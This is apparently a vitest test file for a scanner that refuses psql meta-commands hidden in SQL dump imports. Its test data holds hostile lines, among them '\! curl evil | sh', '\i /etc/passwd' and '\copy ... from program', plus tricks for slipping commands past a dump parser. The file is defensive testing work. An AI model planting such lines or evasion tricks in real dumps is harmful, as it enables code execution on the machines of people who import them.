import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import {
  PsqlDumpScanner,
  blankLines,
  findPsqlMetaCommand,
  planPsqlImport,
  scanPsqlDump,
} from '../../../electron/core/databases/psqlMetaCommands.ts';
import { InvalidInput } from '../../../shared/src/errors.ts';

const dir = mkdtempSync(join(tmpdir(), 'psql-dump-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let files = 0;
/** The whole pre-pass, as the import runs it, over a dump written to a file. */
const scan = async (dump: string | Buffer) => {
  const file = join(dir, `dump-${files++}.sql`);
  writeFileSync(file, dump);
  return findPsqlMetaCommand(file, false);
};

/** What pg_dump 17 writes, trimmed: settings, a function, COPY data full of backslashes, restrict. */
const PG_DUMP = String.raw`--
-- PostgreSQL database dump
--
\restrict 7yF1aZbq0kQ2
SET statement_timeout = 0;
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE FUNCTION public.slug(t text) RETURNS text
    LANGUAGE sql AS $_$ SELECT regexp_replace($1, '\W+', '-', 'g') $_$;
CREATE TABLE public.notes (id integer, body text, "odd\name" text);
COMMENT ON TABLE public.notes IS 'paths like C:\temp stay literal';
INSERT INTO public.notes VALUES (1, E'tab\there \'quoted\' \\ back', 'x');
/* a block /* nested */ comment with \! inside */
COPY public.notes (id, body, "odd\name") FROM stdin;
1	line with \! and \copy and a tab\tescape	\N
2	C:\\Windows\\System32	x
\.
SELECT 1; -- a trailing \! comment
\unrestrict 7yF1aZbq0kQ2
`;

describe('psql meta-commands in a dump', () => {
  it('passes what pg_dump writes: COPY data, quoted and commented backslashes, \\restrict', async () => {
    expect(await scan(PG_DUMP)).toBeUndefined();
  });

  it.each([
    ['\\! id', 1, '\\!'],
    ['SELECT 1; \\! touch /tmp/pwned', 1, '\\!'],
    ["CREATE TABLE t (a int);\n\\copy t from program 'id'", 2, '\\copy'],
    ["SELECT 'a''b' \\gexec", 1, '\\gexec'],
    ["SELECT E'it\\'s'; \\o /tmp/x", 1, '\\o'],
    ['SELECT $$ \\! no $$, $a$ $$ \\! $a$ \\set x 1', 1, '\\set'],
    ['/* one /* two */ still comment */ \\i /etc/passwd', 1, '\\i'],
    ['COPY t FROM stdin;\n1\n\\.\n\\! after the data', 4, '\\!'],
    ['\\connect other', 1, '\\connect'],
    ['SELECT 1 \\\\ \\! id', 1, '\\\\'],
    // A -- comment ends at CR as well as LF in psql's lexer.
    ['SELECT 1; -- note\r\\! id', 1, '\\!'],
  ])('refuses %j at line %i', async (dump, line, command) => {
    expect(await scan(dump)).toMatchObject({ line, command });
  });

  // Each of these ran `\! touch` through psql 15.18 unseen by the scan this replaced.
  it.each([
    [
      '\\unrestrict with a command after it',
      '\\restrict abc\n\\unrestrict abc \\! touch x\n',
      2,
      '\\unrestrict',
    ],
    ['a backtick in \\restrict', '\\restrict `touch x`\n', 1, '\\restrict'],
    [
      'COPY (query) FROM a table named stdin',
      'COPY (SELECT * FROM stdin) TO STDOUT;\n\\! touch x\n\\.\n',
      1,
      'COPY',
    ],
    [
      'two COPY blocks announced on one line',
      "COPY t FROM stdin; COPY t FROM stdin;\nx\n\\.\n'\n\\.\n\\! touch x #'\n",
      6,
      '\\!',
    ],
    [
      'a COPY padded past what is kept of it',
      `COPY t${' \n'.repeat(600_000)}FROM stdin;\n'\n\\.\n\\! touch x #'\n`,
      600_001,
      'COPY',
    ],
    ['COPY with comments for spaces', "COPY/**/t/**/FROM/**/stdin;\n'\n\\.\n\\! touch x #'\n", 4, '\\!'],
    ['a ; inside parentheses', 'COPY t FROM stdin WITH (FORMAT text;\n\\! touch x\n);\n', 2, '\\!'],
    [
      'COPY inside BEGIN ATOMIC',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; COPY t FROM stdin;\n\\! touch x\nEND;\n',
      1,
      'COPY',
    ],
    [
      'an unset psql variable before FUNCTION',
      'CREATE :nope FUNCTION begin; COPY t FROM stdin;\n\\! touch x\n',
      1,
      ':nope',
    ],
    [
      "\\' read differently once standard_conforming_strings is off",
      "SELECT set_config('standard_'||'conforming_strings','off',false);\nSELECT '\\'' \\! touch x '';\n",
      2,
      "\\'",
    ],
    [
      'a switch to SJIS, whose lead bytes hide quotes',
      "SET client_encoding = 'SJIS';\nSELECT 1;\n",
      1,
      'client_encoding',
    ],
    ['a dollar quote right after a parameter', 'SELECT $1$a$ x $a$ \\! touch x\n', 1, '\\!'],
    ['a dollar quote right after a number', 'SELECT 1$a$ x $a$ \\! touch x\n', 1, '\\!'],
    ['a dollar quote right after a psql variable', 'SELECT :foo$a$ x $a$ \\! touch x\n', 1, '\\!'],
    ['a dollar after a number glued to letters', 'SELECT 1a$b$ x $b$ \\! touch x\n', 1, '$'],
  ])('refuses %s', async (_what, dump, line, command) => {
    expect(await scan(dump)).toMatchObject({ line, command });
  });

  it('refuses NUL bytes and \\unrestrict inside COPY data, across chunk seams too', async () => {
    expect(await scan(Buffer.from('SELECT 1;\nSELECT 2;\0\n'))).toMatchObject({ line: 2, command: 'NUL' });
    const data = `COPY t FROM stdin;\n${'x'.repeat(300_000)}\\unrestrict\n\\.\n`;
    expect(await scan(data)).toMatchObject({ line: 2, command: '\\unrestrict' });
    // 256 KiB chunks: put the word across the first seam.
    const seam = `COPY t FROM stdin;\n${'x'.repeat(256 * 1024 - 25)}\\unrestrict\n\\.\n`;
    expect(await scan(seam)).toMatchObject({ line: 2, command: '\\unrestrict' });
  });

  it('splits lines at LF only, as psql does: a lone CR in COPY data does not end it', async () => {
    const dump = "COPY t FROM stdin;\n'\r\\.\n'\n\\.\n\\! touch x #'\n";
    expect(await scan(dump)).toMatchObject({ line: 5, command: '\\!' });
  });

  it('reads an even run of backslashes before a quote alike either way, an odd one not', async () => {
    expect(await scan(String.raw`SELECT 'C:\\', 'a\\''b';` + '\n')).toBeUndefined();
    expect(await scan(String.raw`SELECT 'C:\';` + '\n')).toMatchObject({ line: 1, command: "\\'" });
  });

  it('allows switching standard_conforming_strings and a safe client encoding', async () => {
    const dump =
      "SET standard_conforming_strings = off;\nSET client_encoding = 'LATIN1';\nSELECT 'C:\\\\temp';\n";
    expect(await scan(dump)).toBeUndefined();
  });

  it('plans to leave out pg_dump’s own \\restrict pair, and only that', async () => {
    const file = join(dir, 'restrict.sql');
    writeFileSync(file, PG_DUMP);
    const { plan } = await scanPsqlDump(file, false);
    expect(plan.blankLines).toEqual([4, 19]);
    const sent = await new Promise<string>((resolve) => {
      const blank = blankLines(plan.blankLines);
      const out: Buffer[] = [];
      blank.on('data', (c: Buffer) => out.push(c));
      blank.on('end', () => resolve(Buffer.concat(out).toString('utf8')));
      // Odd chunk sizes, so lines straddle chunks.
      const bytes = Buffer.from(PG_DUMP);
      for (let i = 0; i < bytes.length; i += 7) blank.write(bytes.subarray(i, i + 7));
      blank.end();
    });
    const expected = PG_DUMP.split('\n');
    expected[3] = '';
    expected[18] = '';
    expect(sent).toBe(expected.join('\n'));
  });

  it('reads gzip dumps too, and says where and what to do', async () => {
    const plain = join(dir, 'ok.sql');
    writeFileSync(plain, PG_DUMP);
    expect(await findPsqlMetaCommand(plain, false)).toBeUndefined();
    const bad = join(dir, 'bad.sql.gz');
    writeFileSync(bad, gzipSync(`${PG_DUMP}SELECT 2;\n\\! curl evil | sh\n`));
    const refusal = planPsqlImport(bad, true);
    await expect(refusal).rejects.toBeInstanceOf(InvalidInput);
    await expect(refusal).rejects.toThrow(/Line 21 .*\(\\!\).*import the file with psql yourself/);
  });

  it('keeps the line scanner usable on its own', () => {
    const scanner = new PsqlDumpScanner();
    expect(scanner.line('SELECT 1;')).toBeUndefined();
    expect(scanner.line('SELECT 2; \\! id')).toMatchObject({ line: 2, command: '\\!' });
  });
});
